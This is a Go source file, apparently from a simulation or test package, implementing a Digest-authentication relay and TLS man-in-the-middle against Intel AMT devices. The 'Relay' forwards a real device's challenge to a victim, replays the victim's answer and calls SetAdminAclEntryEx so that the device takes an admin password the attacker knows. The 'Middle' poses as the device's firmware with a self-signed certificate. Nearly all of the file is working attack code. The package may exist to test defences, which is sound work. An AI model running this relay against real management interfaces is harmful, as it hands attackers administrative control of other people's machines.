package sim

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"slices"
	"strings"
	"sync"
	"time"
)

// A Relay is a rogue's line to the device that it claims to be (RFC 7616, 5.8):
//
//  1. It asks the device for something, and gets a challenge.
//  2. It puts the device's challenge to whoever talks to the rogue.
//  3. It spends the answer on a request of its own, which gives the device a
//     password that the rogue knows. An answer that covers the body (auth-int)
//     it first spends on that very body: the connection is open after it.
//
// It remembers every answer that it heard. The zero value of an optional field
// works.
type Relay struct {
	Device   netip.AddrPort // where the device listens with TLS
	From     netip.Addr     // the rogue's own address
	Password string         // what the device gets
	// Rewrite changes the challenge on its way, for example drops qop or names
	// another realm. nil: no change.
	Rewrite func(challenge string) string
	// Greedy refuses an answer that did not open the device, to hear the next one.
	Greedy bool

	mu    sync.Mutex
	lines map[string]*line // by nonce, until the relay spends it
	heard []Heard
	taken bool
	realm string
	own   *line // logged in with the rogue's own password
}

// Heard is one Authorization line that reached a rogue.
type Heard struct {
	At     time.Time
	Fields map[string]string // of the line
	Method string
	Body   []byte
	Opened bool // the device accepted it
}

// MadeWith reports whether an answer was made with this password: a rogue finds
// out by trying, a test by asking.
func (h Heard) MadeWith(password string) bool {
	f := h.Fields
	ha2 := h.Method + ":" + f["uri"]
	if f["qop"] == "auth-int" {
		ha2 += ":" + md5hex(string(h.Body))
	}
	kd := f["nonce"]
	if f["qop"] != "" {
		kd += ":" + f["nc"] + ":" + f["cnonce"] + ":" + f["qop"]
	}
	return f["response"] == md5hex(ha1(f["username"], f["realm"], password)+":"+kd+":"+md5hex(ha2))
}

// TurnGreedy sets Greedy from now on.
func (r *Relay) TurnGreedy() {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.Greedy = true
}

func (r *Relay) greedy() bool {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.Greedy
}

// Heard lists what reached the rogue.
func (r *Relay) Heard() []Heard {
	r.mu.Lock()
	defer r.mu.Unlock()
	return slices.Clone(r.heard)
}

// Taken reports whether the device holds the rogue's password.
func (r *Relay) Taken() bool {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.taken
}

// line is one connection of a rogue's to the device.
type line struct {
	conn net.Conn
	in   *bufio.Reader
	over bool // the device closes it
}

// said is a device's answer to a rogue.
type said struct {
	status          int
	challenge, kind string
	body            []byte
}

// suitesAll are those of any generation.
var suitesAll = slices.Concat(suitesOld, suitesMid, suitesLate,
	[]uint16{tls.TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256, tls.TLS_ECDHE_ECDSA_WITH_AES_256_GCM_SHA384})

func (r *Relay) dial() (*line, error) {
	dialer := net.Dialer{Timeout: handshakeTime, LocalAddr: net.TCPAddrFromAddrPort(netip.AddrPortFrom(r.From, 0))}
	raw, err := dialer.Dial("tcp", r.Device.String())
	if err != nil {
		return nil, err
	}
	_ = raw.SetDeadline(time.Now().Add(handshakeTime))
	c := tls.Client(raw, &tls.Config{InsecureSkipVerify: true, MinVersion: tls.VersionTLS10, CipherSuites: suitesAll,
		GetClientCertificate: func(*tls.CertificateRequestInfo) (*tls.Certificate, error) { return new(tls.Certificate), nil }})
	if err := c.Handshake(); err != nil {
		_ = raw.Close()
		return nil, err
	}
	return &line{conn: c, in: bufio.NewReader(c)}, nil
}

// post sends one request and reads the answer.
func (l *line) post(authorization string, body []byte) (*said, error) {
	_ = l.conn.SetDeadline(time.Now().Add(handshakeTime))
	head := "POST /wsman HTTP/1.1\r\nHost: amt\r\nContent-Type: application/soap+xml;charset=UTF-8\r\n"
	if authorization != "" {
		head += "Authorization: " + authorization + "\r\n"
	}
	if _, err := l.conn.Write(append(fmt.Appendf(nil, "%sContent-Length: %d\r\n\r\n", head, len(body)), body...)); err != nil {
		l.over = true
		return nil, err
	}
	res, err := http.ReadResponse(l.in, nil)
	if err != nil {
		l.over = true
		return nil, err
	}
	defer res.Body.Close()
	s := &said{status: res.StatusCode, challenge: res.Header.Get("Www-Authenticate"), kind: res.Header.Get("Content-Type")}
	s.body, err = io.ReadAll(res.Body)
	l.over = res.Close || err != nil
	return s, err
}

// challenge gets a challenge from the device, and keeps the line on which it
// came.
func (r *Relay) challenge() (string, error) {
	l, err := r.dial()
	if err != nil {
		return "", err
	}
	s, err := l.post("", rogueCall("AMT_GeneralSettings", nsXfer+"/Get", ""))
	if err == nil && s.challenge == "" {
		err = errors.New("the device asks for no login")
	}
	if err != nil {
		_ = l.conn.Close()
		return "", err
	}
	f := digestFields(strings.TrimPrefix(s.challenge, "Digest "))
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.lines == nil || len(r.lines) > 8 { // drop those that nobody answered
		for _, l := range r.lines {
			_ = l.conn.Close()
		}
		r.lines = map[string]*line{}
	}
	r.lines[f["nonce"]], r.realm = l, f["realm"]
	if r.Rewrite != nil {
		return r.Rewrite(s.challenge), nil
	}
	return s.challenge, nil
}

// invent makes a challenge up while the device gives none: an answer to it may
// still tell something.
func (r *Relay) invent() string {
	r.mu.Lock()
	defer r.mu.Unlock()
	realm := r.realm
	if realm == "" {
		realm = "Digest:A4070000000000000000000000000000"
	}
	challenge := fmt.Sprintf(`Digest realm="%s", nonce="%016x",stale="false",qop="auth"`, realm, time.Now().UnixNano())
	if r.Rewrite != nil {
		challenge = r.Rewrite(challenge)
	}
	return challenge
}

// spend hears an answer and uses it up.
func (r *Relay) spend(req *httpRequest) (opened bool) {
	f := digestFields(strings.TrimPrefix(req.authorization, "Digest "))
	r.mu.Lock()
	defer r.mu.Unlock()
	l := r.lines[f["nonce"]]
	delete(r.lines, f["nonce"])
	if l != nil {
		defer func() { _ = l.conn.Close() }()
		opened = r.take(l, f, req)
	}
	r.heard = append(r.heard, Heard{At: time.Now(), Fields: f, Method: req.method, Body: bytes.Clone(req.body), Opened: opened})
	return opened
}

// take gives the device the rogue's password on somebody else's login. mu is
// held.
func (r *Relay) take(l *line, f map[string]string, req *httpRequest) bool {
	if l.over { // the device closes after a 401; its nonces are good on any line
		again, err := r.dial()
		if err != nil {
			return false
		}
		l.conn, l.in, l.over = again.conn, again.in, false
	}
	authorization := req.authorization
	if f["qop"] == "auth-int" {
		if s, err := l.post(authorization, req.body); err != nil || s.status == http.StatusUnauthorized {
			return false
		}
		authorization = "" // the connection is open
	}
	sum, err := hex.DecodeString(ha1("admin", r.realm, r.Password))
	if err != nil {
		return false
	}
	s, err := l.post(authorization, rogueCall("AMT_AuthorizationService", "SetAdminAclEntryEx",
		"<r:Username>admin</r:Username><r:DigestPassword>"+base64.StdEncoding.EncodeToString(sum)+"</r:DigestPassword>"))
	if err != nil || s.status != http.StatusOK || !bytes.Contains(s.body, []byte("ReturnValue>0<")) {
		return false
	}
	r.taken = true
	return true
}

// do sends the device a request under the rogue's own password.
func (r *Relay) do(body []byte) (*said, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	authorization := ""
	for range 5 {
		if r.own == nil || r.own.over {
			l, err := r.dial()
			if err != nil {
				return nil, err
			}
			if r.own != nil {
				_ = r.own.conn.Close()
			}
			r.own = l
		}
		s, err := r.own.post(authorization, body)
		if err != nil {
			return nil, err
		}
		if s.status != http.StatusUnauthorized {
			return s, nil
		}
		f := digestFields(strings.TrimPrefix(s.challenge, "Digest "))
		qop, kd := "", f["nonce"]
		if f["qop"] != "" {
			qop, kd = `, qop=auth, nc=00000001, cnonce="rogue"`, kd+":00000001:rogue:auth"
		}
		authorization = fmt.Sprintf(`Digest username="admin", realm="%s", nonce="%s", uri="/wsman", response="%s"%s`, f["realm"],
			f["nonce"],
			md5hex(ha1("admin", f["realm"], r.Password)+":"+kd+":"+md5hex("POST:/wsman")), qop)
	}
	return nil, errors.New("the device refuses the rogue's password")
}

func (r *Relay) close() {
	r.mu.Lock()
	defer r.mu.Unlock()
	for _, l := range r.lines {
		_ = l.conn.Close()
	}
	clear(r.lines)
	if r.own != nil {
		_ = r.own.conn.Close()
		r.own = nil
	}
}

// rogueCall is an envelope: of a method by its name, else of an action.
func rogueCall(class, action, args string) []byte {
	uri := nsAMT + class
	body := ""
	if !strings.Contains(action, "/") {
		body = "<r:" + action + `_INPUT xmlns:r="` + uri + `">` + args + "</r:" + action + "_INPUT>"
		action = uri + "/" + action
	}
	return []byte(`<?xml version="1.0" encoding="utf-8"?><Envelope xmlns="` + nsEnv + `" xmlns:a="` + nsAddr + `" xmlns:w="` + nsMan +
		`"><Header>` +
		`<a:Action>` + action + `</a:Action><a:To>/wsman</a:To><w:ResourceURI>` + uri + `</w:ResourceURI><a:MessageID>1</a:MessageID>` +
		`<a:ReplyTo><a:Address>` + nsAddr + `/role/anonymous</a:Address></a:ReplyTo></Header><Body>` + body + `</Body></Envelope>`)
}

// relayed is the login of a rogue device: it passes the other device's
// challenge on to the peer. nil: the request goes on.
func (c *conn) relayed(req *httpRequest) *httpReply {
	d := c.dev
	r := d.cfg.Rogue
	if r == nil {
		return nil
	}
	req.trusted = true
	d.mu.Lock()
	asks := !c.setup || d.p.AsksDigest || slices.ContainsFunc(d.seen.changes, func(ch Change) bool { return ch.Call == d.cfg.Asks })
	d.mu.Unlock()
	if !asks {
		return nil
	}
	if req.authorization != "" && (r.spend(req) || !r.greedy()) {
		return nil
	}
	challenge, err := r.challenge()
	if err != nil {
		challenge = r.invent()
	}
	return &httpReply{status: http.StatusUnauthorized, kind: "text/html", challenge: challenge}
}

// A Middle ends TLS at a device's address, between the device and us, or at an
// address of its own. It does not know who calls.
type Middle struct {
	MiddleConfig
	l  net.Listener
	wg sync.WaitGroup

	mu     sync.Mutex
	closed bool
	conns  map[net.Conn]bool
	came   int
	ended  int
}

// MiddleConfig describes a Middle.
type MiddleConfig struct {
	Listen netip.AddrPort
	Relay  *Relay
	// Certificate is the certificate it shows; nil: one like those that firmware
	// makes for itself.
	Certificate *tls.Certificate
	// AsksCertificate: it wants a client certificate, any, as a device in setup
	// does.
	AsksCertificate bool
	// Passes decides about the n-th connection, counted from 1: All passes
	// everything to the device as it is, None nothing, and a number so many of the
	// device's bytes before both sides are cut. nil: None.
	Passes func(n int) int
}

// How much of a connection a Middle passes.
const (
	All  = -1
	None = 0
)

// UntilOpen passes everything while the device lets in only peers it trusts,
// and nothing once it asks anybody for a login: after its commit.
func (r *Relay) UntilOpen(int) int {
	if _, err := r.challenge(); err != nil {
		return All
	}
	return None
}

// NewMiddle listens.
func NewMiddle(cfg MiddleConfig) (*Middle, error) {
	m := &Middle{MiddleConfig: cfg, conns: map[net.Conn]bool{}}
	if m.Certificate == nil {
		cert, err := selfSigned(newKey(2048), time.Now().UnixNano(), false)
		if err != nil {
			return nil, err
		}
		m.Certificate = cert
	}
	var err error
	if m.l, err = net.Listen("tcp", cfg.Listen.String()); err != nil {
		return nil, fmt.Errorf("middle: %w", err)
	}
	m.wg.Go(func() {
		for {
			c, err := m.l.Accept()
			if err != nil {
				return
			}
			m.wg.Go(func() { m.serve(c) })
		}
	})
	return m, nil
}

// Close ends every connection and waits for everything that the middle started.
func (m *Middle) Close() error {
	m.mu.Lock()
	m.closed = true
	for c := range m.conns {
		_ = c.Close()
	}
	m.mu.Unlock()
	err := m.l.Close()
	m.wg.Wait()
	m.Relay.close()
	return err
}

// Ended counts the connections on which the middle ended TLS itself, whether or
// not the caller liked its certificate.
func (m *Middle) Ended() int {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.ended
}

// keep makes Close end a connection. It returns false if Close has begun.
func (m *Middle) keep(c net.Conn) bool {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.conns[c] = true
	if m.closed {
		_ = c.Close()
	}
	return !m.closed
}

func (m *Middle) leave(c net.Conn) {
	m.mu.Lock()
	defer m.mu.Unlock()
	delete(m.conns, c)
	_ = c.Close()
}

func (m *Middle) serve(c net.Conn) {
	defer m.leave(c)
	if !m.keep(c) {
		return
	}
	m.mu.Lock()
	m.came++
	n := m.came
	m.mu.Unlock()
	passes := None
	if m.Passes != nil {
		passes = m.Passes(n)
	}
	if passes != None {
		m.pass(c, passes)
		return
	}
	_ = c.SetDeadline(time.Now().Add(idleTime))
	conf := &tls.Config{Certificates: []tls.Certificate{*m.Certificate}, MinVersion: tls.VersionTLS10, MaxVersion: tls.VersionTLS12,
		CipherSuites: suitesAll}
	if m.AsksCertificate {
		conf.ClientAuth = tls.RequireAnyClientCert
	}
	m.mu.Lock()
	m.ended++
	m.mu.Unlock()
	tc := tls.Server(c, conf)
	if tc.Handshake() == nil {
		m.talk(tc)
	}
}

// pass hands bytes on in both directions; the device sees the caller's address,
// as it does if the middle is a cable.
func (m *Middle) pass(c net.Conn, most int) {
	dialer := net.Dialer{Timeout: handshakeTime}
	if from, ok := c.RemoteAddr().(*net.TCPAddr); ok {
		dialer.LocalAddr = &net.TCPAddr{IP: from.IP}
	}
	d, err := dialer.Dial("tcp", m.Relay.Device.String())
	if err != nil {
		return
	}
	defer m.leave(d)
	if !m.keep(d) {
		return
	}
	var wg sync.WaitGroup
	wg.Go(func() {
		defer d.Close()
		_, _ = io.Copy(d, c)
	})
	defer wg.Wait()
	defer c.Close()
	defer d.Close()
	var from io.Reader = d
	if most > 0 {
		from = io.LimitReader(d, int64(most))
	}
	_, _ = io.Copy(c, from)
}

// talk answers for the device: with the device's challenges until one answer
// opened it, and with its own words from then on.
func (m *Middle) talk(tc net.Conn) {
	c := &conn{rw: tc, in: bufio.NewReader(tc)}
	for {
		req, err := c.readRequest()
		if err != nil {
			return
		}
		s := &said{status: http.StatusUnauthorized, kind: "text/html"}
		if m.Relay.Taken() || req.authorization != "" && m.Relay.spend(req) {
			if s, err = m.Relay.do(req.body); err != nil {
				return
			}
		} else if s.challenge, err = m.Relay.challenge(); err != nil {
			s.challenge = m.Relay.invent()
		}
		out := fmt.Appendf(nil, "HTTP/1.1 %d %s\r\nServer: Intel(R) Active Management Technology\r\nContent-Type: %s\r\n", s.status,
			statusText[s.status], s.kind)
		if s.challenge != "" {
			out = append(out, "WWW-Authenticate: "+s.challenge+"\r\n"...)
		}
		out = append(fmt.Appendf(out, "Content-Length: %d\r\n\r\n", len(s.body)), s.body...)
		if _, err := tc.Write(out); err != nil {
			return
		}
	}
}
